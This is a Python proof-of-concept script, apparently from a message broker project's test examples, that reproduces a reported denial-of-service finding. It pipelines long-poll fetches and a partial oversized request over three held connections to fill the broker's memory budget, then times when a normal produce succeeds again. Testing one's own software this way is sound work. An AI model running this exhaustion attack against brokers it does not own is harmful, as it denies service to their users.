# Issue #29, finding 4, at full scale, against a broker with the default flags already
# listening at ADDR: 3 connections each pipeline 4 long polls (min_bytes and max_wait
# 2^31-1), then 85.25 MiB of a request announced as 100 MiB (the 256 MiB budget is then
# too full for 1 MiB more), once, and stay. A fresh client's 1 MiB produce (broker_load
# produce-latency) is tried every 5 s, for 200 s at most, until it passes.
#
#   python3 examples/interop/pipelined_hold.py 127.0.0.1:PORT target/release/broker_load
#
# Prints when each try was made (seconds after the attack was sent) and whether it passed.
import socket, struct, subprocess, sys, time

addr, load = sys.argv[1], sys.argv[2]
host, port = addr.split(':')


def fetch_v4(cid):
    body = struct.pack('>iiiib', -1, 2**31-1, 2**31-1, 50 << 20, 0)
    body += struct.pack('>i', 1) + struct.pack('>h', 4) + b'demo'
    body += struct.pack('>i', 1) + struct.pack('>iqi', 0, 0, 1 << 20)
    msg = struct.pack('>hhih', 1, 4, cid, -1) + body
    return struct.pack('>i', len(msg)) + msg


socks = []
for c in range(3):
    s = socket.create_connection((host, int(port)))
    for i in range(4):
        s.sendall(fetch_v4(i))
    s.sendall(struct.pack('>i', 100 << 20) + b'\x55' * ((85 << 20) + (256 << 10)))
    socks.append(s)
start = time.time()
print('attack sent', flush=True)
while time.time() - start < 200:
    r = subprocess.run([load, 'produce-latency', '--broker', addr, '--requests', '1',
                        '--record-bytes', str(1 << 20), '--acks', '1'],
                       capture_output=True, text=True)
    ok = r.returncode == 0
    print(f'{time.time() - start:6.1f} s: 1 MiB produce {"passed" if ok else "refused"}', flush=True)
    if ok:
        break
    time.sleep(5)
